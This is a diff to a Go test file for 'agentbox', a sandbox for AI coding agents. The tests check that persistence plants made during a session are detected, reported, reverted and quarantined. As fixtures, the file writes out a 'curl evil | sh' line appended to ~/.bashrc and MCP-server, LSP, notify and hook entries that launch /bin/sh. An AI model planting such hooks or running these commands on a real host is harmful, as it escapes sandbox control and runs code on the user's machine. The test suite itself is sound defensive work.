@@ -29,6 +29,9 @@ func TestKeep(t *testing.T) {
 		{"a kept file swapped for a symlink or a FIFO is moved aside, without blocking", keepAuditSwaps},
 		{"a killed launcher's session is audited by the next launch", keepAuditKilled},
 		{"overlapping sessions: a plant re-made after another's audit is still caught", keepAuditOverlap},
+		{"kept agent directories: every changed file is audited, whatever its name", keepAuditAnyName},
+		{"codex: the repository's trust and the model stay while a notify is put back", keepAuditCodexTrust},
+		{"the repository's own agent files: what names a program is reported, left in place", keepAuditProject},
 	}
 	for _, backend := range backends(t) {
 		t.Run(backend, func(t *testing.T) {
@@ -150,7 +153,7 @@ func keepRefusals(t *testing.T, b *sandboxtest.Box) {
 
 func keepPresetClaude(t *testing.T, b *sandboxtest.Box) {
 	h := b.Home
-	out := b.OK(`echo s > ~/.claude/state && cat ~/.claude.json && echo snap > ~/.claude/shell-snapshots/planted.sh &&
+	out := b.OK(`echo s > ~/.claude/state.md && cat ~/.claude.json && echo snap > ~/.claude/shell-snapshots/planted.sh &&
 for d in plugins skills agents commands hooks local; do touch ~/.claude/$d/x 2>/dev/null && echo "$d writable"; done; true`,
 		"--keep-agent", "claude")
 	if strings.Contains(out, "writable") {
@@ -159,7 +162,7 @@ for d in plugins skills agents commands hooks local; do touch ~/.claude/$d/x 2>/
 	if sandboxtest.Exists(h + "/.claude/shell-snapshots/planted.sh") {
 		t.Errorf("a shell snapshot written inside reached the host, where a running Claude Code sources it")
 	}
-	if got := sandboxtest.ReadFileOr(h + "/.claude/state"); got != "s\n" {
+	if got := sandboxtest.ReadFileOr(h + "/.claude/state.md"); got != "s\n" {
 		t.Errorf("~/.claude not kept: host has %q", got)
 	}
 	if got := sandboxtest.ReadFileOr(h + "/.claude.json"); got != "{}\n" {
@@ -205,7 +208,7 @@ func keepAuditWhole(t *testing.T, b *sandboxtest.Box) {
 	mkdirUser(t, h+"/.claude")
 	writeUser(t, h+"/.claude/statusline.sh", "#!/bin/sh\necho status\n")
 	writeUser(t, h+"/.claude/settings.json", `{"statusLine": {"type": "command", "command": "~/.claude/statusline.sh"}}`)
-	r := b.Sh(`echo 'curl evil | sh' >> ~/.bashrc && echo 'touch /tmp/pwned' >> ~/.claude/statusline.sh && echo fine > ~/.claude/notes`,
+	r := b.Sh(`echo 'curl evil | sh' >> ~/.bashrc && echo 'touch /tmp/pwned' >> ~/.claude/statusline.sh && echo fine > ~/.claude/notes.txt`,
 		"--keep", "~/.bashrc", "--keep", "~/.claude")
 	if r.Code != 0 {
 		t.Fatal(r)
@@ -224,11 +227,11 @@ func keepAuditWhole(t *testing.T, b *sandboxtest.Box) {
 	if fi, err := os.Stat(h + "/.claude/statusline.sh"); err != nil || fi.Mode().Perm() != 0o644 {
 		t.Errorf("statusline.sh mode after the audit: %v %v", fi, err)
 	}
-	if got := sandboxtest.ReadFileOr(h + "/.claude/notes"); got != "fine\n" {
+	if got := sandboxtest.ReadFileOr(h + "/.claude/notes.txt"); got != "fine\n" {
 		t.Errorf("an ordinary write in the kept dir: %q", got)
 	}
-	if m, _ := filepath.Glob(h + "/.bashrc.agentbox-quarantine-*"); len(m) != 1 || !strings.Contains(sandboxtest.ReadFileOr(m[0]), "curl evil") {
-		t.Errorf("the session's .bashrc is not kept aside: %v", m)
+	if m, _ := filepath.Glob(h + "/.local/state/agentbox/quarantine/*" + h + "/.bashrc"); len(m) != 1 || !strings.Contains(sandboxtest.ReadFileOr(m[0]), "curl evil") {
+		t.Errorf("the session's .bashrc is not kept in the quarantine: %v", m)
 	}
 }
 
@@ -337,5 +340,150 @@ i=0; while [ ! -e ./b.go ] && [ $i -lt 200 ]; do sleep 0.1; i=$((i+1)); done; `+
 	}
 	if m, _ := filepath.Glob(h + "/.local/state/agentbox/agents/live/*"); len(m) != 0 {
 		t.Errorf("sessions left in the ledger: %v", m)
+	}
+}
+
+// keepAuditAnyName: issue 30.4 — inside a kept agent directory, a plant under a name
+// no list of agentbox's holds (Claude Code's legacy ~/.claude/.config.json, its LSP
+// servers, a script, a file of a format agentbox cannot read, a link from a
+// transcript to ~/.bashrc, a Codex profile layer, YAML) is put back and reported,
+// and the session's versions are kept in agentbox's state, not beside them.
+func keepAuditAnyName(t *testing.T, b *sandboxtest.Box) {
+	h := b.Home
+	mkdirUser(t, h+"/.claude/projects/p")
+	mkdirUser(t, h+"/.codex")
+	writeUser(t, h+"/.claude/.lsp.json", `{"lspServers": {}}`)
+	writeUser(t, h+"/.claude/daemon-state", "ok\n")
+	r := b.Sh(`set -e
+printf '%s' '{"theme":"dark","mcpServers":{"e":{"command":"/bin/sh","args":["-c","touch /tmp/pwned"]}}}' > ~/.claude/.config.json
+printf '%s' '{"lspServers":{"go":{"command":"/bin/sh"}}}' > ~/.claude/.lsp.json
+printf '#!/bin/sh\ntouch /tmp/pwned\n' > ~/.claude/statusline; chmod +x ~/.claude/statusline
+printf 'changed\n' > ~/.claude/daemon-state
+ln -s ~/.bashrc ~/.claude/projects/p/s.jsonl
+echo '{"type":"user","command":"ls"}' > ~/.claude/projects/p/t.jsonl
+printf 'notify = ["/bin/sh"]\n' > ~/.codex/work.config.toml
+printf 'policy:\n  command: sh\n' > ~/.codex/agents.yaml
+echo notes > ~/.codex/notes.md`, "--keep-agent", "claude", "--keep-agent", "codex")
+	if r.Code != 0 {
+		t.Fatal(r)
+	}
+	for _, f := range []string{
+		h + "/.claude/.config.json: new mcpServers.e, put back as it was",
+		h + "/.claude/.lsp.json: new lspServers.go.command, put back as it was",
+		h + "/.claude/statusline: new, put back as it was",
+		h + "/.claude/daemon-state: changed (not a format agentbox can read), put back as it was",
+		h + "/.claude/projects/p/s.jsonl: replaced by a symlink, put back as it was",
+		h + "/.codex/work.config.toml: new notify, put back as it was",
+		h + "/.codex/agents.yaml: new, put back as it was",
+	} {
+		if !strings.Contains(r.Stderr, "agentbox: audit: "+f) {
+			t.Errorf("stderr lacks %q:\n%s", f, r.Stderr)
+		}
+	}
+	if got := sandboxtest.ReadFileOr(h + "/.claude/.config.json"); strings.Contains(got, "pwned") || !strings.Contains(got, "dark") {
+		t.Errorf(".config.json after the audit: %q (want the theme, no server)", got)
+	}
+	if got := sandboxtest.ReadFileOr(h + "/.claude/.lsp.json"); strings.Contains(got, "/bin/sh") {
+		t.Errorf(".lsp.json after the audit: %q", got)
+	}
+	if got := sandboxtest.ReadFileOr(h + "/.claude/daemon-state"); got != "ok\n" {
+		t.Errorf("daemon-state after the audit: %q", got)
+	}
+	for _, gone := range []string{"/.claude/statusline", "/.claude/projects/p/s.jsonl", "/.codex/agents.yaml"} {
+		if _, err := os.Lstat(h + gone); err == nil {
+			t.Errorf("%s is still there after the audit", gone)
+		}
+	}
+	if got := sandboxtest.ReadFileOr(h + "/.codex/work.config.toml"); strings.Contains(got, "notify") {
+		t.Errorf("work.config.toml after the audit: %q", got)
+	}
+	for _, kept := range []string{"/.claude/projects/p/t.jsonl", "/.codex/notes.md"} {
+		if !sandboxtest.Exists(h + kept) {
+			t.Errorf("%s (data, or nothing that runs) was not kept", kept)
+		}
+	}
+	for _, dir := range []string{h + "/.claude", h + "/.claude/projects/p", h + "/.codex"} {
+		if m, _ := filepath.Glob(dir + "/*.agentbox-quarantine-*"); len(m) > 0 {
+			t.Errorf("quarantine files beside the user's: %v", m)
+		}
+	}
+	if m, _ := filepath.Glob(h + "/.local/state/agentbox/quarantine/*" + h + "/.claude/.config.json"); len(m) != 1 || !strings.Contains(sandboxtest.ReadFileOr(m[0]), "pwned") {
+		t.Errorf("the session's .config.json is not in the quarantine: %v", m)
+	}
+	// A session that plants nothing has nothing to report.
+	if r := b.Sh("true", "--keep-agent", "claude", "--keep-agent", "codex"); strings.Contains(r.Stderr, "agentbox: audit:") {
+		t.Errorf("findings for a session that changed nothing:\n%s", r.Stderr)
+	}
+}
+
+// keepAuditCodexTrust: issue 35.1 — answering Codex's "trust this folder?" for the
+// session's repository writes a [projects."REPO"] table; it stays, with the model
+// the session chose, while a notify program added in the same session is taken
+// out, and nothing piles up in ~/.codex.
+func keepAuditCodexTrust(t *testing.T, b *sandboxtest.Box) {
+	h := b.Home
+	mkdirUser(t, h+"/.codex")
+	writeUser(t, h+"/.codex/config.toml", "model = \"o3\"\n")
+	r := b.Sh(fmt.Sprintf(`printf 'model = "o4"\nnotify = ["/bin/sh", "-c", "touch /tmp/pwned"]\n\n[projects.%%s]\ntrust_level = "trusted"\n' '"%s"' > ~/.codex/config.toml`, b.Repo),
+		"--keep-agent", "codex")
+	if r.Code != 0 {
+		t.Fatal(r)
+	}
+	cfg := h + "/.codex/config.toml"
+	if !strings.Contains(r.Stderr, "agentbox: audit: "+cfg+": new notify, put back as it was") {
+		t.Errorf("the planted notify is not reported:\n%s", r.Stderr)
+	}
+	got := sandboxtest.ReadFileOr(cfg)
+	if strings.Contains(got, "notify") || !strings.Contains(got, `model = "o4"`) ||
+		!strings.Contains(got, `[projects."`+b.Repo+`"]`) || !strings.Contains(got, `trust_level = "trusted"`) {
+		t.Errorf("config.toml after the audit:\n%s\nwant the model and the repository's trust, no notify", got)
+	}
+	if m, _ := filepath.Glob(h + "/.codex/*.agentbox-quarantine-*"); len(m) > 0 {
+		t.Errorf("quarantine files in ~/.codex: %v", m)
+	}
+	if m, _ := filepath.Glob(h + "/.local/state/agentbox/quarantine/*" + cfg); len(m) != 1 || !strings.Contains(sandboxtest.ReadFileOr(m[0]), "notify") {
+		t.Errorf("the session's config.toml is not in the quarantine: %v", m)
+	}
+	// The trust answer holds into the next session: nothing to put back.
+	if r := b.Sh("true", "--keep-agent", "codex"); strings.Contains(r.Stderr, "agentbox: audit:") {
+		t.Errorf("the next session's audit:\n%s", r.Stderr)
+	}
+}
+
+// keepAuditProject: the repository's .mcp.json, .claude/ and .codex/ are the
+// sandbox's to write and the agents' to read on the host later: a session that adds
+// a program to them is reported (not undone: they may be the work itself), with or
+// without a kept path; a setting that names none is not.
+func keepAuditProject(t *testing.T, b *sandboxtest.Box) {
+	r := b.Sh(`set -e
+printf '%s' '{"mcpServers":{"x":{"command":"/bin/sh"}}}' > .mcp.json
+mkdir -p .claude/hooks .codex
+printf '%s' '{"model":"opus","hooks":{"Stop":[]}}' > .claude/settings.json
+printf '#!/bin/sh\nid\n' > .claude/hooks/x.sh
+printf 'notify = ["sh"]\n' > .codex/config.toml
+printf '%s' '{"model":"opus"}' > .claude/settings.local.json`)
+	if r.Code != 0 {
+		t.Fatal(r)
+	}
+	const left = ", left in place: review it before an agent runs in this repository outside agentbox"
+	for _, f := range []string{
+		"/.mcp.json: new mcpServers.x" + left,
+		"/.claude/settings.json: new hooks" + left,
+		"/.claude/hooks/x.sh: new code" + left,
+		"/.codex/config.toml: new notify" + left,
+	} {
+		if !strings.Contains(r.Stderr, "agentbox: audit: "+b.Repo+f) {
+			t.Errorf("stderr lacks %q:\n%s", f, r.Stderr)
+		}
+	}
+	if strings.Contains(r.Stderr, "settings.local.json") {
+		t.Errorf("a project setting that names no program was reported:\n%s", r.Stderr)
+	}
+	if got := sandboxtest.ReadFileOr(b.Repo + "/.mcp.json"); !strings.Contains(got, "/bin/sh") {
+		t.Errorf("the repository's .mcp.json was changed: %q", got)
+	}
+	// Unchanged since, the next session has nothing to say about them.
+	if r := b.Sh("true"); strings.Contains(r.Stderr, "agentbox: audit:") {
+		t.Errorf("the next session reported unchanged project files:\n%s", r.Stderr)
 	}
 }
